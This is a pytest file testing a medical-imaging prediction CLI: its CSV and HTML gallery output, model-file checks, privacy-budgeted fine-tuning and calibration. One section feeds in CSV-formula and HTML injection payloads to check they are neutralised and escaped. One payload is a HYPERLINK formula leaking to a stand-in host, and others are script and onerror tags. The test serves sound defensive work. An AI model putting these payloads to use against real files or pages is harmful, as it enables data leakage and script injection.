"""`medfuse predict` on a site and on one image: the CSV, a PNG per case, the gallery;
a file that is not a medfuse model, or of another label set, is refused with the reason."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
import torch
from typer.testing import CliRunner

from medfuse import app
from shared_model.config import DEFAULT_LABELS, ModelConfig
from shared_model.dataset import open_site
from shared_model.model import MedFuseModel, ModelOutput
from shared_model.model_file import load_model_file, payload
from shared_model.tokenizer import Tokenizer
from shared_model.train import calibrated_threshold, evaluate_cases

PNG = b"\x89PNG\r\n\x1a\n"


def _model_file(path: Path) -> Path:
    torch.manual_seed(0)
    cfg = ModelConfig.small(image_size=32)
    torch.save(payload(MedFuseModel(cfg).state_dict(), cfg, DEFAULT_LABELS, round=1), path)
    return path


def test_predict_writes_a_row_a_picture_and_a_gallery_entry_per_case(
    tiny_federation: list[Path], tmp_path: Path
):
    model = _model_file(tmp_path / "model.pt")
    site = tiny_federation[0]
    out = tmp_path / "pred"
    result = CliRunner().invoke(app, ["predict", str(model), str(site), "--out", str(out),
                                      "--limit", "6"])
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(out / "predictions.csv")
    assert len(frame) == 6 and set(frame["predicted"]) <= set(DEFAULT_LABELS)
    probs = frame[[f"p_{lab}" for lab in DEFAULT_LABELS]].sum(axis=1)
    assert ((probs - 1.0).abs() < 1e-4).all()
    pngs = sorted((out / "cases").glob("*.png"))
    assert len(pngs) == 6 and all(p.read_bytes().startswith(PNG) for p in pngs)
    page = (out / "index.html").read_text(encoding="utf-8")
    assert page.count("<figure") == 6 and all(c in page for c in frame["case_id"])
    assert "accuracy on the labelled cases" in result.output


def test_predict_one_image_with_its_report(tiny_federation: list[Path], tmp_path: Path):
    model = _model_file(tmp_path / "model.pt")
    image = next(p for p in sorted(tiny_federation[0].rglob("*")) if p.suffix == ".png")
    out = tmp_path / "one"
    result = CliRunner().invoke(app, ["predict", str(model), "--image", str(image),
                                      "--report-text", "heart enlarged, no effusion",
                                      "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert len(pd.read_csv(out / "predictions.csv")) == 1
    assert len(list((out / "cases").glob("*.png"))) == 1
    # the prediction is printed, not only written
    assert f"{image.stem}: " in result.output and "probability" in result.output
    assert "lesion box" in result.output and "generated description" in result.output


def test_predict_refuses_what_is_not_a_medfuse_model_or_has_other_labels(
    tiny_federation: list[Path], tmp_path: Path
):
    junk = tmp_path / "junk.pt"
    junk.write_bytes(b"not a model")
    model = _model_file(tmp_path / "model.pt")
    site = str(tiny_federation[0])
    not_model = CliRunner().invoke(app, ["predict", str(junk), site, "--out", str(tmp_path)])
    other = CliRunner().invoke(app, ["predict", str(model), site, "--labels", "a,b",
                                     "--out", str(tmp_path)])
    assert not_model.exit_code == 2 and "not a medfuse model file" in not_model.output
    assert other.exit_code == 2 and "labels" in other.output
    assert not (tmp_path / "predictions.csv").exists()


def test_personalise_fine_tunes_with_dp_charged_to_the_ledger_and_refuses_past_the_budget(
    tiny_federation: list[Path], tmp_path: Path
):
    from client.privacy import LedgerStore
    from shared_model.model_file import load_model_file

    model = _model_file(tmp_path / "model.pt")
    site = str(tiny_federation[1])
    store = tmp_path / "store"
    out = tmp_path / "personal.pt"
    ok = CliRunner().invoke(app, ["personalise", str(model), site, "--out", str(out),
                                  "--epochs", "1", "--epsilon-budget", "20",
                                  "--state-dir", str(store)])
    assert ok.exit_code == 0, ok.output
    assert "global" in ok.output and "personalised" in ok.output
    personal = load_model_file(out)
    assert personal.meta["source"] == "personalise" and 0 < personal.meta["epsilon"] <= 20
    (ledger,) = LedgerStore(store).ledgers()
    assert [e.kind for e in ledger.entries].count("dp-sgd") == 1
    # the same data with a budget below what is already spent: refused, nothing written
    again = CliRunner().invoke(app, ["personalise", str(model), site, "--out",
                                     str(tmp_path / "again.pt"), "--epochs", "1",
                                     "--epsilon-budget", "1", "--state-dir", str(store)])
    assert again.exit_code in (1, 2) and "budget" in again.output
    assert not (tmp_path / "again.pt").exists()


def test_personalise_names_an_unknown_layer_set_and_charges_nothing(
    tiny_federation: list[Path], tmp_path: Path
):
    model = _model_file(tmp_path / "model.pt")
    out = CliRunner().invoke(app, ["personalise", str(model), str(tiny_federation[1]),
                                   "--layers", "everything", "--state-dir",
                                   str(tmp_path / "store")])
    assert out.exit_code == 2 and "layers='everything'" in out.output
    assert not (tmp_path / "store").exists() or not any((tmp_path / "store").rglob("*.json"))


# ------------------------------------------------------------ crafted files, clear errors

FORMULA_LABELS = ('=HYPERLINK("http://evil.example/?leak")', "+SUM(1)", "-1+2", "@cmd",
                  "<script>alert(1)</script>")
FORMULA_IDS = ("=1+1", "+cmd", "-2", "@SUM(A1)", '<img src=x onerror="alert(1)">')


def _crafted_site(source: Path, dest: Path) -> Path:
    """A site whose labels and case ids are spreadsheet formulas and HTML, and one row
    whose image is unreadable (its case id a formula too)."""
    import csv
    import shutil

    shutil.copytree(source / "images", dest / "images")
    (dest / "images" / "broken.png").write_bytes(PNG + b"truncated")
    images = sorted(p.name for p in (dest / "images").glob("s*.png"))
    rows = [[cid, f"images/{img}", "heart enlarged", FORMULA_LABELS[i % 5], "train"]
            for i, (cid, img) in enumerate(zip(
                (*FORMULA_IDS, *(f"case{i}" for i in range(10))), images, strict=False))]
    rows.append(["=BROKEN()", "images/broken.png", "no findings", FORMULA_LABELS[0], "train"])
    with (dest / "manifest.csv").open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["case_id", "image", "report", "label", "split"], *rows])
    return dest


def test_formula_labels_and_case_ids_are_neutralised_in_every_csv_cell_and_escaped_in_html(
    tiny_federation: list[Path], tmp_path: Path
):
    import csv

    # Prepare: a crafted model file whose labels are formulas and markup, a crafted site
    torch.manual_seed(0)
    cfg = ModelConfig.small(image_size=32)
    model = tmp_path / "crafted.pt"
    torch.save(payload(MedFuseModel(cfg).state_dict(), cfg, FORMULA_LABELS), model)
    site = _crafted_site(tiny_federation[0], tmp_path / "site")
    out = tmp_path / "pred"
    # Execute
    result = CliRunner().invoke(app, ["predict", str(model), str(site), "--out", str(out)])
    # Assert: no cell starts a formula; the text is kept behind the quote
    assert result.exit_code == 0, result.output
    with (out / "predictions.csv").open(newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_id = {row[header.index("case_id")]: row for row in rows}
    assert {"'" + cid for cid in FORMULA_IDS[:4]} <= set(by_id)
    assert {row[header.index("predicted")] for row in rows if row[header.index("predicted")]
            } <= {"'" + lab if lab[0] in "=+-@" else lab for lab in FORMULA_LABELS}
    broken = by_id["'=BROKEN()"]
    assert "unreadable" in broken[header.index("error")]
    # the gallery shows the same names as text, never as markup
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # a true label shown
    assert "&lt;img src=x onerror=" in page  # a case id shown


def test_unreadable_images_are_listed_on_the_terminal_and_rows_of_the_csv(
    tiny_federation: list[Path], tmp_path: Path
):
    import shutil

    # Prepare: a copy of a site with two images broken
    site = tmp_path / "site"
    shutil.copytree(tiny_federation[0], site)
    broken = sorted((site / "images").glob("*.png"))[:2]
    for path in broken:
        path.write_bytes(PNG + b"not an image")
    out = tmp_path / "pred"
    # Execute
    result = CliRunner().invoke(app, ["predict", str(_model_file(tmp_path / "m.pt")),
                                      str(site), "--out", str(out)])
    # Assert: both named on the terminal and in the CSV with their reason
    assert result.exit_code == 0, result.output
    assert "2 case(s) not predicted" in result.output
    assert all(p.stem in result.output for p in broken)
    frame = pd.read_csv(out / "predictions.csv", keep_default_na=False)
    errors = frame[frame["error"] != ""]
    assert sorted(errors["case_id"]) == sorted(p.stem for p in broken)
    assert errors["error"].str.contains("unreadable").all()
    assert (errors["predicted"] == "").all()
    assert len(frame) - len(errors) == len(list((out / "cases").glob("*.png")))


def _one_line_error(result) -> str:
    """The one line a refused command printed (an exit, not an uncaught exception)."""
    assert isinstance(result.exception, SystemExit), result.exception
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.output
    return lines[0]


def test_a_training_checkpoint_given_as_the_model_names_the_final_model(
    tiny_federation: list[Path], tmp_path: Path
):
    from server.checkpoint import Checkpoint, save_checkpoint

    # Prepare: a real round checkpoint of a run under OUTPUT
    cfg = ModelConfig.small(image_size=32)
    arrays = {k: v.numpy() for k, v in MedFuseModel(cfg).state_dict().items()}
    ck = save_checkpoint(tmp_path / "run", Checkpoint(round=2, arrays=arrays,
                                                      model_config=cfg.model_dump(),
                                                      run_config={}))
    # Execute
    result = CliRunner().invoke(app, ["predict", str(ck), str(tiny_federation[0]),
                                      "--out", str(tmp_path / "pred")])
    # Assert
    assert result.exit_code == 2
    line = _one_line_error(result)
    assert "training checkpoint" in line
    assert f"use {(tmp_path / 'run').resolve()}/final/model.pt" in line


def test_a_png_renamed_model_pt_is_refused_in_one_line(
    tiny_federation: list[Path], tmp_path: Path
):
    # Prepare
    fake = tmp_path / "model.pt"
    fake.write_bytes(next(tiny_federation[0].rglob("*.png")).read_bytes())
    # Execute
    result = CliRunner().invoke(app, ["predict", str(fake), str(tiny_federation[0]),
                                      "--out", str(tmp_path / "pred")])
    # Assert
    assert result.exit_code == 2
    line = _one_line_error(result)
    assert str(fake) in line and "not a medfuse model file" in line
    assert "weights_only" not in result.output


def test_a_report_path_that_does_not_exist_is_an_error_naming_it(
    tiny_federation: list[Path], tmp_path: Path
):
    # Prepare
    model = _model_file(tmp_path / "model.pt")
    image = next(p for p in sorted(tiny_federation[0].rglob("*")) if p.suffix == ".png")
    missing = tmp_path / "reports" / "case1.txt"
    report = tmp_path / "report.txt"
    report.write_text("heart enlarged", encoding="utf-8")
    base = ["predict", str(model), "--image", str(image)]
    # Execute
    bad = CliRunner().invoke(app, [*base, "--report", str(missing), "--out",
                                   str(tmp_path / "bad")])
    good = CliRunner().invoke(app, [*base, "--report", str(report), "--out",
                                    str(tmp_path / "good")])
    both = CliRunner().invoke(app, [*base, "--report", str(report), "--report-text", "x",
                                    "--out", str(tmp_path / "both")])
    # Assert
    assert bad.exit_code == 2
    line = _one_line_error(bad)
    assert str(missing) in line and "--report-text" in line
    assert not (tmp_path / "bad").exists()
    assert good.exit_code == 0, good.output
    assert both.exit_code == 2 and "not both" in _one_line_error(both)


def test_an_unreadable_or_missing_image_is_an_error_naming_it(tmp_path: Path):
    # Prepare
    model = _model_file(tmp_path / "model.pt")
    broken = tmp_path / "scan.png"
    broken.write_bytes(PNG + b"truncated")
    # Execute
    results = [CliRunner().invoke(app, ["predict", str(model), "--image", str(path),
                                        "--out", str(tmp_path / "pred")])
               for path in (broken, tmp_path / "absent.png")]
    # Assert
    for result, path in zip(results, (broken, tmp_path / "absent.png"), strict=True):
        assert result.exit_code == 2
        assert str(path) in _one_line_error(result)
    assert not (tmp_path / "pred").exists()


# ------------------------------------------------- any folder, the threshold, the gallery


def _folder(source: Path, dest: Path, rows: int = 6, *, split: str | None = "test",
            label: bool = True, broken: int | None = None) -> Path:
    """A small copy of a site: its first `rows` cases, every split set to `split` (the
    column left out for None), the label column kept or left out, the image of row
    `broken` (0-based) replaced by a file that is not an image."""
    import shutil

    frame = pd.read_csv(source / "manifest.csv", dtype=str, keep_default_na=False)
    boxed = frame[frame["bbox_x0"] != ""].head(2)
    frame = pd.concat([boxed, frame[frame["bbox_x0"] == ""]]).head(rows)
    frame = frame.drop(columns=[c for c in ("split", "label") if
                                (c == "split" and split is None) or (c == "label" and not label)])
    if split is not None:
        frame["split"] = split
    dest.mkdir(parents=True)
    for name in frame["image"]:
        (dest / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(source / name, dest / name)
    if broken is not None:
        (dest / frame["image"].iloc[broken]).write_bytes(PNG + b"not an image")
    frame.to_csv(dest / "manifest.csv", index=False)
    return dest


def _threshold_model(path: Path, threshold: float) -> Path:
    torch.manual_seed(0)
    cfg = ModelConfig.small(image_size=32)
    torch.save(payload(MedFuseModel(cfg).state_dict(), cfg, DEFAULT_LABELS, round=1,
                       lesion_threshold=threshold), path)
    return path


def _predict(model: Path, site: Path, out: Path):
    return CliRunner().invoke(app, ["predict", str(model), str(site), "--out", str(out)])


def test_a_test_only_folder_is_predicted_every_row_with_its_accuracy(
    tiny_federation: list[Path], tmp_path: Path
):
    from shared_model.dataset import SiteError, open_site
    from shared_model.tokenizer import Tokenizer

    # Prepare: no training row at all, which training refuses
    site = _folder(tiny_federation[0], tmp_path / "site", split="test")
    cfg = ModelConfig.small(image_size=32)
    with pytest.raises(SiteError, match="no usable training rows"):
        open_site(site, labels=DEFAULT_LABELS, model=cfg, tokenizer=Tokenizer(cfg.vocab_size))
    # Execute
    result = _predict(_model_file(tmp_path / "m.pt"), site, tmp_path / "pred")
    # Assert: every row predicted, in manifest order, its split and truth kept
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(tmp_path / "pred" / "predictions.csv", keep_default_na=False)
    manifest = pd.read_csv(site / "manifest.csv", dtype=str, keep_default_na=False)
    assert list(frame["case_id"]) == list(manifest["case_id"])
    assert set(frame["split"]) == {"test"} and (frame["error"] == "").all()
    assert list(frame["true_label"]) == list(manifest["label"])
    assert "accuracy on the labelled cases: " in result.output


def test_an_unlabelled_folder_is_predicted_without_an_accuracy_line(
    tiny_federation: list[Path], tmp_path: Path
):
    # Prepare: only case_id, image, report (and the box columns): no label, no split
    site = _folder(tiny_federation[0], tmp_path / "site", split=None, label=False)
    assert "label" not in (site / "manifest.csv").read_text().splitlines()[0].split(",")
    # Execute
    result = _predict(_model_file(tmp_path / "m.pt"), site, tmp_path / "pred")
    # Assert
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(tmp_path / "pred" / "predictions.csv", keep_default_na=False)
    assert len(frame) == 6 and (frame["true_label"] == "").all()
    assert set(frame["predicted"]) <= set(DEFAULT_LABELS) and (frame["error"] == "").all()
    assert "accuracy" not in result.output
    page = (tmp_path / "pred" / "index.html").read_text(encoding="utf-8")
    assert page.count('data-verdict="unlabelled"') == 6 and "accuracy" not in page


def test_an_unreadable_image_in_an_unlabelled_folder_is_listed_and_the_rest_predicted(
    tiny_federation: list[Path], tmp_path: Path
):
    # Prepare
    site = _folder(tiny_federation[0], tmp_path / "site", split=None, label=False, broken=3)
    bad_id = pd.read_csv(site / "manifest.csv", dtype=str)["case_id"].iloc[3]
    # Execute
    result = _predict(_model_file(tmp_path / "m.pt"), site, tmp_path / "pred")
    # Assert: named on the terminal (its row: header 1, so the 4th case is row 5), in the
    # CSV with its reason and in the page; the five others predicted
    assert result.exit_code == 0, result.output
    assert "1 case(s) not predicted" in result.output
    assert f"manifest row 5, {bad_id}: unreadable" in result.output
    frame = pd.read_csv(tmp_path / "pred" / "predictions.csv", keep_default_na=False)
    errors = frame[frame["error"] != ""]
    assert list(errors["case_id"]) == [bad_id] and "unreadable" in errors["error"].iloc[0]
    assert (frame[frame["error"] == ""]["predicted"] != "").sum() == 5
    page = (tmp_path / "pred" / "index.html").read_text(encoding="utf-8")
    assert "Not predicted (1)" in page and f"<td>{bad_id}</td>" in page
    assert page.count("<figure") == 5


def test_an_unknown_label_is_a_listed_row_while_an_empty_one_is_a_case(
    tiny_federation: list[Path], tmp_path: Path
):
    from shared_model.dataset import open_for_inference

    # Prepare: one label a typo, one empty
    site = _folder(tiny_federation[0], tmp_path / "site", split="")
    frame = pd.read_csv(site / "manifest.csv", dtype=str, keep_default_na=False)
    frame.loc[1, "label"], frame.loc[2, "label"] = "pneumonai", ""
    frame.to_csv(site / "manifest.csv", index=False)
    # Execute
    opened = open_for_inference(site, labels=DEFAULT_LABELS,
                                model=ModelConfig.small(image_size=32))
    # Assert
    assert [b.case_id for b in opened.bad_rows] == [frame["case_id"][1]]
    assert "unknown label 'pneumonai'" in opened.bad_rows[0].reason
    assert [c.case_id for c in opened.cases] == [frame["case_id"][k] for k in (0, 2, 3, 4, 5)]
    assert opened.cases[1].label == "" and opened.cases[0].box is not None
    assert all(c.split == "" for c in opened.cases)  # none given: none made up


@pytest.mark.parametrize("threshold", [0.0, 0.99])
def test_a_box_only_where_the_lesion_score_reaches_the_threshold(
    tiny_federation: list[Path], tmp_path: Path, threshold: float
):
    # Prepare
    model = _threshold_model(tmp_path / "m.pt", threshold)
    site = _folder(tiny_federation[0], tmp_path / "site")
    image = next(p for p in sorted(site.rglob("*.png")))
    # Execute
    result = _predict(model, site, tmp_path / "pred")
    one = CliRunner().invoke(app, ["predict", str(model), "--image", str(image),
                                   "--out", str(tmp_path / "one")])
    # Assert: the score always there; a box exactly where it reaches the threshold and
    # a finding (not "normal") is predicted
    assert result.exit_code == 0 and one.exit_code == 0, result.output + one.output
    frame = pd.read_csv(tmp_path / "pred" / "predictions.csv")
    assert frame["lesion_score"].notna().all()
    boxed = frame["box_x0"].notna()
    finding = frame["predicted"] != "normal"
    assert (boxed == ((frame["lesion_score"] >= threshold) & finding)).all()
    assert (boxed == finding).all() if threshold == 0.0 else not boxed.any()
    page = (tmp_path / "pred" / "index.html").read_text(encoding="utf-8")
    assert page.count('class="box pred"') == boxed.sum()
    assert "lesion score" in one.output
    one_normal = "normal (probability" in one.output
    assert ("no lesion box" in one.output) == (threshold == 0.99 or one_normal)


def _one_output(probs: list[float], lesion: float) -> ModelOutput:
    """A batch of one case's model output: class probabilities `probs` (as logits), a
    lesion score `lesion`, a box at [.2, .2, .5, .5]."""
    logit = torch.logit(torch.tensor([lesion]))  # (1,)
    return ModelOutput(logits=torch.tensor([probs]).log(), box=torch.tensor([[.2, .2, .5, .5]]),
                       lesion_logit=logit, gen_logits=None, text_attention=None,
                       image_attention=None)


@pytest.mark.parametrize(("probs", "lesion", "boxed"), [
    ([.7, .1, .1, .05, .05], 0.99, False),  # normal predicted, high lesion score: no box
    ([.1, .1, .7, .05, .05], 0.60, True),   # nodule predicted at the threshold: a box
    ([.1, .1, .7, .05, .05], 0.59, False),  # nodule predicted below the threshold: none
])
def test_a_box_only_where_a_finding_is_predicted_and_its_score_reaches_the_threshold(
    tmp_path: Path, probs: list[float], lesion: float, boxed: bool
):
    from client.predict import Case, _prediction, prediction_text

    # Prepare: a model file whose threshold is .6
    mf = load_model_file(_threshold_model(tmp_path / "m.pt", 0.6))
    case = Case(case_id="c1", image=torch.zeros(1, 32, 32), report="")
    # Execute
    pred = _prediction(case, 0, _one_output(probs, lesion), "", mf)
    # Assert: the score is always kept; the box only for a finding at the threshold
    assert pred.lesion_score == pytest.approx(lesion)
    assert (pred.box is not None) == boxed
    if boxed:
        assert pred.box == pytest.approx((.2, .2, .5, .5))
    text = prediction_text(pred)
    assert ("no lesion box (predicted normal" in text) == (pred.label == "normal")


def test_the_gallery_links_small_thumbnails_of_the_original_film_with_both_boxes(
    tiny_federation: list[Path], tmp_path: Path
):
    from PIL import Image

    from client.predict import PRED_COLOUR, THUMB_PX, TRUE_COLOUR

    # Prepare: a site whose first case is a 600 x 400 film with a true box
    site = _folder(tiny_federation[0], tmp_path / "site")
    frame = pd.read_csv(site / "manifest.csv", dtype=str, keep_default_na=False)
    Image.open(site / frame["image"][0]).convert("L").resize((600, 400)).save(
        site / frame["image"][0])
    # Execute
    result = _predict(_threshold_model(tmp_path / "m.pt", 0.0), site, tmp_path / "pred")
    # Assert: the page links files by relative path and stays small
    assert result.exit_code == 0, result.output
    out = tmp_path / "pred"
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "data:image" not in page and "http" not in page
    assert len(page.encode("utf-8")) < 4000 + 2000 * len(frame)
    for control in ('id="f-class"', 'id="f-verdict"', 'id="f-sort"', 'value="lesion"',
                    'value="prob"', 'value="wrong"', 'value="unlabelled"', "<script>"):
        assert control in page
    assert page.count('class="box true"') == (frame["bbox_x0"] != "").sum() == 2
    assert TRUE_COLOUR in page and PRED_COLOUR in page  # the legend
    # the film at its own resolution, the true box drawn in its colour; a small thumbnail
    name = frame["case_id"][0]
    film = Image.open(out / "cases" / f"{name}.png").convert("RGB")
    assert film.size == (600, 400)
    x0, y0 = float(frame["bbox_x0"][0]) * 600, float(frame["bbox_y0"][0]) * 400
    y1 = float(frame["bbox_y1"][0]) * 400
    edge = {film.getpixel((x, round((y0 + y1) / 2))) for x in range(int(x0) - 2, int(x0) + 3)}
    assert _rgb(TRUE_COLOUR) in edge
    thumb = Image.open(out / "thumbs" / f"{name}.jpg")
    assert max(thumb.size) <= THUMB_PX and f'src="thumbs/{name}.jpg"' in page
    assert f'href="cases/{name}.png"' in page and f'href="attention/{name}.png"' in page


def _rgb(hex_colour: str) -> tuple[int, int, int]:
    from PIL import ImageColor

    return ImageColor.getrgb(hex_colour)[:3]


def test_calibrate_writes_the_threshold_set_on_the_sites_val_split(
    tiny_federation: list[Path], tmp_path: Path
):
    # Prepare
    model = _model_file(tmp_path / "model.pt")
    out = tmp_path / "calibrated.pt"
    # Execute
    result = CliRunner().invoke(app, ["calibrate", str(model), str(tiny_federation[0]),
                                      "--out", str(out)])
    # Assert: the file holds the val split's Youden threshold, and the same weights
    assert result.exit_code == 0, result.output
    mf, calibrated = load_model_file(model), load_model_file(out)
    site = open_site(tiny_federation[0], labels=mf.labels, model=mf.model_config,
                     tokenizer=Tokenizer(mf.model_config.vocab_size))
    net = MedFuseModel(mf.model_config)
    net.load_state_dict(mf.state)
    val = evaluate_cases(net, site.val, mf.model_config, Tokenizer(mf.model_config.vocab_size),
                         torch.device("cpu"), generate=False)
    assert calibrated.lesion_threshold == pytest.approx(calibrated_threshold(val))
    assert calibrated.lesion_threshold != mf.lesion_threshold
    assert all(torch.equal(calibrated.state[k], v) for k, v in mf.state.items())
    assert calibrated.meta["calibrated_on"] == site.name
    assert f"lesion threshold {calibrated.lesion_threshold:.3f}" in result.output
